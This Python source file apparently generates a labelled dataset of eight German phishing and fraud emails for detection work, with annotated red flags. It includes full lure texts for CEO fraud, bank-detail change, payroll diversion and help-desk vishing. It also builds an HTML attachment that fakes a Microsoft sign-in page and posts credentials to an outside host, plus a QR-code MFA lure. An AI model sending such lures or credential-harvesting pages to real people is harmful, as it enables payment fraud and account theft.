"""Attack messages, German (01-08)."""
import base64

from util import *
from profiles import smtp_client, exo, gmail, outlook_consumer, exim_php, sendgrid, ses
from lib import pdf, qr, png
from lib.bank import fmt_iban
from company import IBAN, BIC, EG_USTID


def a01():
    m = Msg("attack", 1, "de", "ceo-fraud-vertrauliche-uebernahme",
            "CEO fraud: 'Dr. Klaus Hoffmann' asks the CFO to wire an exclusivity deposit for a confidential marina acquisition; "
            "lawyer announced to send account details",
            "Look-alike domain examplegroup-eu.com (registered days before, mail from a Contabo VPS, submitted from a consumer "
            "cable IP); secrecy ('do not tell Lena or accounting'), same-day urgency, unreachable by phone, reply only by mail - "
            "classic BEC/CEO-fraud pattern.", pair="business 01")
    m.rcpt = "sabine.krueger@example.com"
    m.t = T(2026, 10, 13, 10, 41, 7)
    c = m.ctx
    F = dict(frm=addr("Dr. Klaus Hoffmann", "klaus.hoffmann@examplegroup-eu.com"),
             to=staff("sabine.krueger", "iso-8859-1"),
             subject=hval("Vertraulich - Projekt Adria", "iso-8859-1"),
             t=ago(m.t, 4), tz="DE", env="klaus.hoffmann@examplegroup-eu.com")
    smtp_client(m, F, relay="vmi2417803.contaboserver.net", relay_ip="161.97.142.77",
                out_helo="mail.examplegroup-eu.com", client_helo="[192.168.0.104]",
                client_rdns="ip5b40c2a7.dynamic.kabel-deutschland.de", client_ip="91.64.194.167",
                auth="klaus.hoffmann@examplegroup-eu.com", mailer="Microsoft Outlook 16.0",
                mid=c.outlook_imap_mid("examplegroup-eu.com"))
    body = """Sabine,

ich sitze seit heute Morgen mit den Eigentümern der Marina in Trogir und unserem Anwalt zusammen. Wir stehen kurz vor der Unterzeichnung des Term Sheets für die Übernahme. Das Thema ist bis zur offiziellen Bekanntgabe absolut vertraulich - bitte sprich mit niemandem im Haus darüber, auch nicht mit Lena oder der Buchhaltung.

Für die Exklusivitätsphase müssen wir heute noch eine Anzahlung von 186.400,00 EUR auf das Treuhandkonto der Kanzlei leisten. Herr Dr. Reinhardt von Reinhardt & Kollegen meldet sich in den nächsten Minuten direkt bei dir mit den Kontodaten und dem Escrow Agreement. Bitte sorge dafür, dass die Zahlung noch heute als Eilüberweisung rausgeht, und schick mir die Ausführungsbestätigung als PDF.

Ich bin den ganzen Tag in Gesprächen und telefonisch nicht erreichbar. Bitte nur per Mail antworten.

Danke dir, ich verlasse mich da ganz auf dich.

Klaus

Dr. Klaus Hoffmann
Geschäftsführer
Example Group GmbH
"""
    m.body = Text(body, "plain", "iso-8859-1", "quoted-printable")
    return m


def a02():
    m = Msg("attack", 2, "de", "lieferant-bankverbindung-lookalike",
            "Supplier bank-detail change: 'Lieferant GmbH' accounting announces a new account at a Lithuanian "
            "payment institution and asks to pay two open invoices there; PDF 'letter from management' attached",
            "Sender domain lieferamt-gmbh.de (m instead of n) on a fresh Microsoft 365 tenant; bank change by e-mail only, "
            "foreign e-money account (Paysera LT) for a Hamburg company, payment deadline, asks not to phone. "
            "Genuine Lieferant GmbH mail comes from mail.lieferant-gmbh.de.", pair="business 02, 03, 04")
    m.rcpt = "monika.schaefer@example.com"
    m.t = T(2026, 10, 27, 9, 12, 44)
    F = dict(frm=addr("Lieferant GmbH | Buchhaltung", "rechnungen@lieferamt-gmbh.de"),
             to=staff("monika.schaefer", "windows-1252"),
             subject=hval("Änderung unserer Bankverbindung – offene Posten Kd.-Nr. 10472", "windows-1252"),
             topic=hval("Änderung unserer Bankverbindung – offene Posten Kd.-Nr. 10472", "windows-1252"),
             t=ago(m.t, 3), env="rechnungen@lieferamt-gmbh.de")
    exo(m, F, mbx="FR4P281MB3712", prd="DEUP281", out=("DEU01-FR2-obe", "mail-fr2deu01on2115", "52.101.164.115"),
        lang="de-DE", attach=True, org="lieferamt-gmbh.de")
    new = IBAN["att_lief_lt"]
    text = """Sehr geehrte Frau Schäfer,

im Zuge der Umstellung unseres Zahlungsverkehrs auf ein zentrales Forderungsmanagement (Factoring) hat sich unsere Bankverbindung zum 1. November 2026 geändert. Bitte hinterlegen Sie ab sofort ausschließlich die folgende Verbindung in Ihren Kreditorenstammdaten:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: %s
Institut: Paysera LT, UAB (Vilnius)

Zahlungen auf unsere bisherige Verbindung bei der Hamburger Sparkasse können ab sofort nicht mehr zugeordnet werden und werden zurückgebucht. Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang.

Nach unseren Unterlagen sind derzeit folgende Rechnungen offen:
RE-2026-4388 vom 18.09.2026 – 14.862,30 €
RE-2026-4471 vom 02.10.2026 – 9.417,85 €

Wir bitten um Ausgleich bis Freitag, 30.10.2026, auf die neue Verbindung und um eine kurze Bestätigung per E-Mail, sobald die Stammdaten geändert sind. Aufgrund der Umstellung sind wir telefonisch derzeit nur eingeschränkt erreichbar – bitte nutzen Sie für Rückfragen ausschließlich diese E-Mail-Adresse.

Mit freundlichen Grüßen

i. A. Petra Lang
Buchhaltung / Debitorenmanagement

Lieferant GmbH
Marine- und Hafenausrüstung
Großer Grasbrook 9 · 20457 Hamburg
Tel. +49 40 3097 6620
""" % (fmt_iban(new), BIC["att_lief_lt"])
    letter = pdf.simple_doc([
        "#Lieferant GmbH - Marine- und Hafenausrüstung",
        "Großer Grasbrook 9, 20457 Hamburg", "",
        "Example Group GmbH", "Kreditorenbuchhaltung", "Hafenstraße 12", "24159 Kiel", "",
        "Hamburg, 26.10.2026", "",
        "#Mitteilung über die Änderung unserer Bankverbindung", "",
        "Sehr geehrte Damen und Herren,", "",
        "wir teilen Ihnen mit, dass unser Zahlungsverkehr ab dem 01.11.2026 über unseren Factoring-Partner",
        "abgewickelt wird. Bitte leisten Sie sämtliche Zahlungen ab sofort ausschließlich auf folgendes Konto:", "",
        "Kontoinhaber:  Lieferant GmbH",
        "IBAN:          " + fmt_iban(new),
        "BIC:           " + BIC["att_lief_lt"],
        "Bank:          Paysera LT, UAB, Pilaites pr. 16, Vilnius", "",
        "Die bisherige Bankverbindung ist ab diesem Datum nicht mehr gültig.", "",
        "Mit freundlichen Grüßen", "",
        "Dr. Henning Carstens", "Geschäftsführer", "",
        "Lieferant GmbH, Amtsgericht Hamburg HRB 98213, Geschäftsführer: Dr. Henning Carstens",
    ], title="Mitteilung Bankverbindung", author="Buchhaltung", creator="Microsoft® Word für Microsoft 365",
        producer="Microsoft® Word für Microsoft 365", date="D:20261026164212+01'00'")
    m.notes.append("IBAN %s (LT, mod-97 valid)" % new)
    m.body = Multipart("mixed", [
        alt(m, text, outlook_html(text), "windows-1252", "quoted-printable", n=0),
        Attachment(letter, "application/pdf", "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf")],
        m.boundary(4))
    return m


def a03():
    m = Msg("attack", 3, "de", "elster-erstattung-phishing",
            "ELSTER look-alike: 'new message in your ELSTER mailbox', VAT refund of 4.318,27 EUR requires confirming the "
            "bank account via a link",
            "Sent by PHPMailer from a compromised holiday-flat WordPress site on a cPanel host (X-Source-Dir shows the "
            "plugin path); ELSTER never puts amounts or login links in its notification mails; link leads to "
            "/wp-content/uploads/... on the hacked site; 7-day deadline.", pair=None)
    m.rcpt = "ute.hansen@example.com"
    m.t = T(2026, 10, 19, 7, 3, 51)
    F = dict(frm=addr("ELSTER - Ihr Online-Finanzamt", "noreply@ferienwohnung-strandlust.de"),
             to="ute.hansen@example.com",
             subject=hval("Neue Nachricht in Ihrem ELSTER-Postfach: Erstattung Umsatzsteuer-Voranmeldung 09/2026", "utf-8"),
             t=ago(m.t, 2), env="noreply@ferienwohnung-strandlust.de")
    exim_php(m, F, host="cp04.hostnet-nord.de", host_ip="185.244.194.36", docroot_user="strandlu",
             script="wp-content/plugins/wp-mail-smtp-pro/inc")
    url = "https://ferienwohnung-strandlust.de/wp-content/uploads/2026/10/elster/?vid=7F3A91C2&st=" + m.ctx.hex(24)
    text = """Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,

in Ihrem ELSTER-Postfach liegt eine neue Nachricht für Sie bereit.

Betreff: Erstattung aus der Umsatzsteuer-Voranmeldung September 2026
Steuernummer: 20 293 41877
Erstattungsbetrag: 4.318,27 €

Für die Auszahlung des Erstattungsbetrags ist eine Bestätigung der hinterlegten Bankverbindung erforderlich. Bitte melden Sie sich innerhalb von 7 Tagen mit Ihrer Zertifikatsdatei in Ihrem Benutzerkonto an und bestätigen Sie die Bankverbindung:

%s

Erfolgt innerhalb dieser Frist keine Bestätigung, wird der Betrag mit künftigen Vorauszahlungen verrechnet.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.
""" % url
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=%CS%"></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1d1d1b">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eef1f4"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #b2b2b2">
<tr><td style="padding:20px 32px;border-bottom:1px solid #d9d9d9"><span style="font-size:26px;font-weight:bold;letter-spacing:1px;color:#2f6f8f">ELSTER</span>
<span style="font-size:13px;color:#555"> &nbsp;Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:28px 32px;font-size:14px;line-height:21px">
<p>Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,</p>
<p>in Ihrem ELSTER-Postfach liegt eine neue Nachricht für Sie bereit.</p>
<table cellpadding="6" style="font-size:14px;background:#f5f7f9;border:1px solid #dde3e8;width:100%">
<tr><td style="width:170px;color:#555">Betreff</td><td>Erstattung aus der Umsatzsteuer-Voranmeldung September 2026</td></tr>
<tr><td style="color:#555">Steuernummer</td><td>20 293 41877</td></tr>
<tr><td style="color:#555">Erstattungsbetrag</td><td><b>4.318,27 €</b></td></tr></table>
<p>Für die Auszahlung des Erstattungsbetrags ist eine Bestätigung der hinterlegten Bankverbindung erforderlich. Bitte melden Sie sich innerhalb von <b>7 Tagen</b> mit Ihrer Zertifikatsdatei an.</p>
<p style="text-align:center;margin:28px 0"><a href="URL" style="background:#2f6f8f;color:#ffffff;text-decoration:none;padding:12px 28px;font-weight:bold;border-radius:3px">Zum Benutzerkonto</a></p>
<p>Erfolgt innerhalb dieser Frist keine Bestätigung, wird der Betrag mit künftigen Vorauszahlungen verrechnet.</p>
<p>Mit freundlichen Grüßen<br>Ihr ELSTER-Team</p></td></tr>
<tr><td style="padding:14px 32px;font-size:11px;color:#777;border-top:1px solid #d9d9d9">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>
</table></td></tr></table></body></html>
""".replace("URL", url)
    m.notes.append("URL " + url)
    m.body = alt(m, text, html, "utf-8", "quoted-printable", quote_cs=False)
    m.body.fold = False
    return m


def a04():
    m = Msg("attack", 4, "de", "xrechnung-zustellung-html-anhang",
            "E-invoicing lure: 'XRechnung could not be delivered to your ERP, confirm your recipient ID'; HTML attachment "
            "renders a Microsoft 365 sign-in page pre-filled with the recipient's address",
            "Unknown 'E-Rechnungsportal' domain sending through Amazon SES; there is no central German portal that pushes "
            "XRechnungen like this; the 'invoice' is an HTML file whose form posts credentials to a Cloudflare Pages host; "
            "5-day threat of rejection.", pair="business 03")
    m.rcpt = "monika.schaefer@example.com"
    m.t = T(2026, 11, 3, 8, 27, 19)
    F = dict(frm=addr("E-Rechnungsportal | Zustellung", "zustellung@erechnung-eingang.de"),
             to="monika.schaefer@example.com",
             subject=hval("XRechnung RE-2026-10873 konnte nicht automatisch zugestellt werden", "iso-8859-15"),
             t=m.t)
    ses(m, F, region="eu-west-1", host="a7-29", ip="54.240.7.29")
    text = """Guten Tag,

über das E-Rechnungsportal wurde für Ihr Unternehmen eine elektronische Rechnung im Format XRechnung (UBL 2.1) eingeliefert:

Rechnungssteller:  Marine Service Nord GmbH
Rechnungsnummer:   RE-2026-10873
Rechnungsdatum:    27.10.2026
Betrag:            7.854,12 € (fällig am 10.11.2026)

Die automatische Übergabe an Ihr ERP-System ist fehlgeschlagen (Fehler 422: Empfänger-ID nicht verifiziert). Seit dem 1. Januar 2025 sind Unternehmen zum Empfang elektronischer Rechnungen verpflichtet.

Eine Vorschau der Rechnung ist im Anhang hinterlegt. Öffnen Sie die Datei und bestätigen Sie Ihre Empfänger-ID mit Ihrer geschäftlichen E-Mail-Adresse, damit diese und künftige Rechnungen zugestellt werden können.

Nicht abgerufene Rechnungen werden nach 5 Werktagen an den Rechnungssteller zurückgewiesen.

Ihr Team E-Rechnungsportal

Dies ist eine automatisch erzeugte Nachricht. Antworten an diese Adresse werden nicht bearbeitet.
"""
    action = "https://xrechnung-viewer-3kd.pages.dev/api/verify"
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>XRechnung RE-2026-10873 - Vorschau</title>
<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}
.box{width:440px;margin:70px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.logo{font-size:15px;color:#5e5e5e;font-weight:600}.logo span{display:inline-block;width:10px;height:10px;margin-right:2px}
h1{font-size:24px;font-weight:600;margin:18px 0 8px}input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right;margin-top:18px}
.doc{font-size:13px;color:#333;background:#f7f7f7;padding:10px;margin:14px 0;filter:blur(0.6px)}</style></head>
<body><div class="box">
<div class="logo"><span style="background:#f25022"></span><span style="background:#7fba00"></span><span style="background:#00a4ef"></span><span style="background:#ffb900"></span> Microsoft</div>
<h1>Anmelden</h1>
<div class="doc">XRechnung RE-2026-10873 · Marine Service Nord GmbH · 7.854,12 EUR<br>Zum Anzeigen des Dokuments bestätigen Sie Ihre Identität.</div>
<form method="post" action="ACTION">
<input type="email" name="login" value="monika.schaefer@example.com">
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="doc" value="RE-2026-10873">
<button type="submit">Anmelden</button></form>
<p style="clear:both;font-size:12px;color:#666;padding-top:20px">Kennwort vergessen?</p>
</div></body></html>
""".replace("ACTION", action)
    m.notes.append("form action " + action)
    m.body = Multipart("mixed", [
        Text(text, "plain", "iso-8859-15", "8bit", quote_cs=False),
        Attachment(att.encode("utf-8"), "text/html", "XRechnung_RE-2026-10873_Vorschau.html")],
        m.boundary())
    return m


def a05():
    m = Msg("attack", 5, "de", "quishing-m365-mfa-qr",
            "Quishing: 'mandatory MFA re-registration for your Microsoft 365 account by 06.11.2026', HTML-only mail whose "
            "only call to action is an inline PNG QR code",
            "Sent from a compromised tax-consultancy mailbox at Strato (submitted from a foreign VPS IP) with display name "
            "'IT-Service | Microsoft 365'; internal IT does not mail staff from outside; the QR code points to "
            "example-com.mfa-registrierung.eu with the victim's address base64-encoded; lock-out threat. QR used so that "
            "link scanners miss the URL.", pair="business 06, 07")
    m.rcpt = "andrea.weiss@example.com"
    m.t = T(2026, 11, 2, 7, 48, 2)
    c = m.ctx
    t = ago(m.t, 3)
    mid = "<%s.%s@steuerbuero-lindner-eck.de>" % (c.hex(8), c.digits(6))
    url = "https://example-com.mfa-registrierung.eu/r/?u=" + base64.b64encode(b"andrea.weiss@example.com").decode().rstrip("=")
    m.notes.append("QR URL " + url)
    m.mx_from = ("mo4-p00-ob.smtp.rzone.de", "mo4-p00-ob.smtp.rzone.de", "81.169.146.179", "1.3")
    m.return_path = "<info@steuerbuero-lindner-eck.de>"
    m.trace = [("Received", "from [10.8.0.3]\n\tby smtp.strato.de (RZmta 51.3.0 AUTH)\n\twith ESMTPSA id a0c4e2a1B7m8Xk2\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n\t(Client did not present a certificate);\n\t%s" % fmt(t, "DE", True)),
               ("X-RZG-AUTH", ":P2EQZWCpfu+qG7CngxMFH1J+3q8wa/QXkBR9MXjAuzpIG0mv9coXAgtl+wfJ" + c.b64url(10)),
               ("X-RZG-CLASS-ID", "mo00")]
    m.headers = [("Message-ID", mid), ("Date", fmt(t, "DE")), ("MIME-Version", "1.0"),
                 ("From", addr("IT-Service | Microsoft 365", "info@steuerbuero-lindner-eck.de")),
                 ("To", "andrea.weiss@example.com"),
                 ("Subject", hval("Pflichtaktion: Erneute MFA-Registrierung für Ihr Microsoft-365-Konto bis 06.11.2026", "utf-8", "B")),
                 ("X-Priority", "1"), ("MIME", None)]
    m.boundary = lambda n=0: "=_" + c.hex(32)
    cid = "qr_%s@mfa" % c.hex(10)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222;background:#ffffff">
<table width="620" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1">
<tr><td style="background:#0078d4;color:#fff;padding:16px 24px;font-size:18px">Microsoft 365 · Sicherheitsinformationen</td></tr>
<tr><td style="padding:24px">
<p>Guten Tag Frau Weiß,</p>
<p>im Rahmen der Umstellung auf die neuen Richtlinien für Authentifizierungsmethoden (Microsoft Entra ID) müssen alle Benutzerkonten der <b>Example Group</b> ihre Multi-Faktor-Authentifizierung bis zum <b>06.11.2026</b> neu registrieren.</p>
<p>Die Registrierung dauert etwa zwei Minuten und ist ausschließlich über ein Mobilgerät möglich. Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen:</p>
<p style="text-align:center"><img src="cid:%s" width="228" height="228" alt="QR-Code"></p>
<p>Konten, für die bis zum Stichtag keine erneute Registrierung vorliegt, werden aus Sicherheitsgründen vorübergehend gesperrt. Eine Entsperrung ist dann nur über ein Ticket beim Service Desk möglich.</p>
<p>Vielen Dank für Ihre Mitwirkung.<br>Ihr IT-Service</p>
<p style="font-size:11px;color:#888">Diese Nachricht wurde an andrea.weiss@example.com gesendet. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table></body></html>
""" % cid
    img = png.matrix_to_png(qr.encode(url, "M"), scale=6)
    m.body = Multipart("related", [
        Text(html, "html", "utf-8", "base64", quote_cs=False),
        Attachment(img, "image/png", "image001.png", inline=True, cid=cid)],
        m.boundary(), extra_params=[("type", '"text/html"')])
    return m


def a06():
    m = Msg("attack", 6, "de", "gehaltskonto-aenderung-gmail",
            "Payroll diversion: 'Monika Schäfer' writes to HR from a Gmail address and asks to pay her salary to a new "
            "N26 account from the November payroll run",
            "Unknown private address (Monika's real private address, known to HR, is at web.de - see business 05); "
            "change of salary account by e-mail only, timed just before the payroll run, pretext for not using the company "
            "mailbox; N26 account opened by the fraudster.", pair="business 05")
    m.rcpt = "andrea.weiss@example.com"
    m.t = T(2026, 11, 16, 12, 6, 38)
    F = dict(frm=addr("Monika Schäfer", "monika.schaefer.kiel@gmail.com", "UTF-8", "B"),
             to=staff("andrea.weiss", "UTF-8", "B"),
             subject="Neue Bankverbindung =?UTF-8?Q?f=C3=BCr_mein_Gehalt?=",
             t=ago(m.t, 2), tz="DE", env="monika.schaefer.kiel@gmail.com")
    gmail(m, F, mx=("mail-ej1-f41", "209.85.218.41"))
    iban = IBAN["att_payroll_n26"]
    text = """Hallo Andrea,

ich habe mein Girokonto gewechselt und möchte, dass mein Gehalt ab der Abrechnung für November auf das neue Konto überwiesen wird:

Kontoinhaberin: Monika Schäfer
IBAN: %s
BIC: %s (N26 Bank)

Kannst du das bitte noch vor dem Abrechnungslauf ändern? Ich schreibe von meiner privaten Adresse, weil ich heute im Homeoffice bin und mein Outlook gerade nicht synchronisiert. Das alte Konto bei der Sparkasse löse ich Ende des Monats auf.

Gib mir bitte kurz Bescheid, wenn es erledigt ist.

Danke und viele Grüße
Monika
""" % (fmt_iban(iban), BIC["att_payroll_n26"])
    m.notes.append("IBAN %s (DE, N26 BLZ, mod-97 valid)" % iban)
    m.body = alt(m, text, gmail_html(text), "UTF-8", "quoted-printable")
    m.body.fold = False
    return m


def a07():
    m = Msg("attack", 7, "de", "gewerberegister-eintragungsofferte",
            "Fake register/directory invoice: 'Gewerbe- und Firmenregister Deutschland' asks to check and sign the company's "
            "'register entry'; the attached form hides a 3-year paid listing of 1.048 EUR/year with an mBank (PL) IBAN",
            "Official-sounding private directory imitating the Handelsregister, sent in bulk via SendGrid; the cost "
            "appears only in the small print of the PDF; account abroad; classic 'Adressbuchschwindel' that German "
            "courts treat as deceptive.", pair=None)
    m.rcpt = "birgit.soerensen@example.com"
    m.t = T(2026, 10, 8, 9, 55, 12)
    F = dict(frm=addr("Gewerbe- und Firmenregister Deutschland", "service@gewerbe-firmenregister.de"),
             to="birgit.soerensen@example.com",
             subject=hval("Eintragungsantrag Example Group GmbH - Aktualisierung Ihrer Firmendaten (Az. GFR-2026-418336)", "iso-8859-1"),
             t=m.t, from_domain="gewerbe-firmenregister.de")
    sendgrid(m, F, ip="149.72.154.231", host="wrqvtzqx")
    iban = IBAN["att_register_pl"]
    text = """Sehr geehrte Damen und Herren,

zur Aktualisierung Ihrer Firmendaten im Gewerbe- und Firmenregister Deutschland bitten wir Sie, die im beigefügten Formular aufgeführten Angaben zu prüfen, gegebenenfalls zu ergänzen und das Formular unterschrieben innerhalb von 14 Tagen an uns zurückzusenden (per E-Mail oder Fax an 0800 7231 994).

Firma: Example Group GmbH
Sitz: Hafenstraße 12, 24159 Kiel
Registergericht: Amtsgericht Kiel
Aktenzeichen: GFR-2026-418336

Bitte beachten Sie die Hinweise auf dem Formular.

Mit freundlichen Grüßen
Registerstelle
Gewerbe- und Firmenregister Deutschland
"""
    doc = pdf.simple_doc([
        "#Gewerbe- und Firmenregister Deutschland",
        "Registerstelle - Eintragungsantrag / Datenabgleich", "",
        "Aktenzeichen: GFR-2026-418336                Datum: 07.10.2026", "",
        "Firma:            Example Group GmbH",
        "Anschrift:        Hafenstraße 12, 24159 Kiel",
        "Registergericht:  Amtsgericht Kiel",
        "Branche:          Yachthäfen, Yachtcharter", "",
        "Bitte prüfen, ggf. korrigieren und unterschrieben zurücksenden.", "",
        "Datum, Unterschrift, Firmenstempel: ______________________________", "",
        "", "", "",
        "Hinweis: Mit Rücksendung des unterzeichneten Formulars beauftragen Sie die Eintragung Ihrer Firmendaten in",
        "das private Online-Verzeichnis www.gewerbe-firmenregister.de. Die Eintragung ist kostenpflichtig und wird für",
        "eine Mindestlaufzeit von 3 Jahren zu einem jährlichen Preis von 1.048,00 EUR zzgl. USt. vereinbart; die",
        "Laufzeit verlängert sich um jeweils ein Jahr, sofern nicht 3 Monate vor Ablauf gekündigt wird. Zahlbar",
        "innerhalb von 10 Tagen nach Rechnungsstellung auf IBAN " + fmt_iban(iban) + ", BIC " + BIC["att_register_pl"] + ".",
        "Kein Zusammenhang mit dem amtlichen Handelsregister. Gerichtsstand Warschau.",
    ], title="Eintragungsantrag GFR-2026-418336", creator="wkhtmltopdf 0.12.6", producer="Qt 4.8.7",
        date="D:20261007081503Z")
    m.notes.append("IBAN %s (PL, mod-97 + sort-code check valid)" % iban)
    m.body = Multipart("mixed", [
        Text(text, "plain", "iso-8859-1", "quoted-printable", quote_cs=False),
        Attachment(doc, "application/pdf", "Eintragungsantrag_GFR-2026-418336.pdf")], m.boundary(), fold=False)
    return m


def a08():
    m = Msg("attack", 8, "de", "teams-helpdesk-quick-assist",
            "Help-desk vishing pretext: 'IT Service Desk' warns of a spam wave against the assistant's mailbox and announces "
            "a Microsoft Teams call from an 'external Microsoft 365 technician' who will need a Quick Assist session",
            "Outlook.com free mailbox posing as internal IT; email-bombing + Teams call + Quick Assist/AnyDesk is the "
            "documented initial-access pattern of ransomware crews (Storm-1811/Black Basta); asks not to tell colleagues. "
            "Internal IT announces the opposite (business 07).", pair="business 07")
    m.rcpt = "lena.vogt@example.com"
    m.t = T(2026, 11, 24, 8, 2, 55)
    F = dict(frm=addr("IT-Service Desk | Example Group", "it.servicedesk.examplegroup@outlook.com"),
             to=staff("lena.vogt", "iso-8859-1"),
             subject=hval("Ticket INC0048213: Spam-Welle auf Ihr Postfach - Rückruf über Microsoft Teams", "iso-8859-1"),
             t=ago(m.t, 2), env="it.servicedesk.examplegroup@outlook.com")
    outlook_consumer(m, F, mbx="DU2PR10MB8011", prd="EURPRD10", out=("EUR05-DB8-obe", "mail-db8eur05olkn2104", "40.92.89.104"))
    text = """Hallo Frau Vogt,

unser Monitoring hat seit heute früh über 1.200 eingehende Nachrichten an Ihr Postfach erkannt (Newsletter-Anmeldungen, die Unbekannte in Ihrem Namen vorgenommen haben). Das ist ein bekanntes Angriffsmuster, mit dem Sicherheitswarnungen in der Masse untergehen sollen.

Damit wir die Filterregeln für Ihr Postfach einrichten können, meldet sich unser Techniker Herr Jan Wagner (Microsoft 365 Support, von uns extern beauftragt) in den nächsten 30 Minuten über Microsoft Teams bei Ihnen. Der Anruf wird als "Help Desk" angezeigt.

Bitte nehmen Sie den Anruf an und halten Sie die Windows-App "Schnellhilfe" (Quick Assist) bereit: Windows-Taste drücken, "Schnellhilfe" eingeben, öffnen. Der Techniker nennt Ihnen dann einen sechsstelligen Sicherheitscode. Die Sitzung dauert etwa 10 Minuten.

Bitte leiten Sie diese Nachricht nicht an Kolleginnen und Kollegen weiter und informieren Sie nicht das ganze Team, damit die Leitungen des Service Desk nicht blockiert werden.

Mit freundlichen Grüßen
IT-Service Desk
Example Group
"""
    m.body = alt(m, text, outlook_html(text), "iso-8859-1", "quoted-printable")
    return m


BUILDERS = [a01, a02, a03, a04, a05, a06, a07, a08]
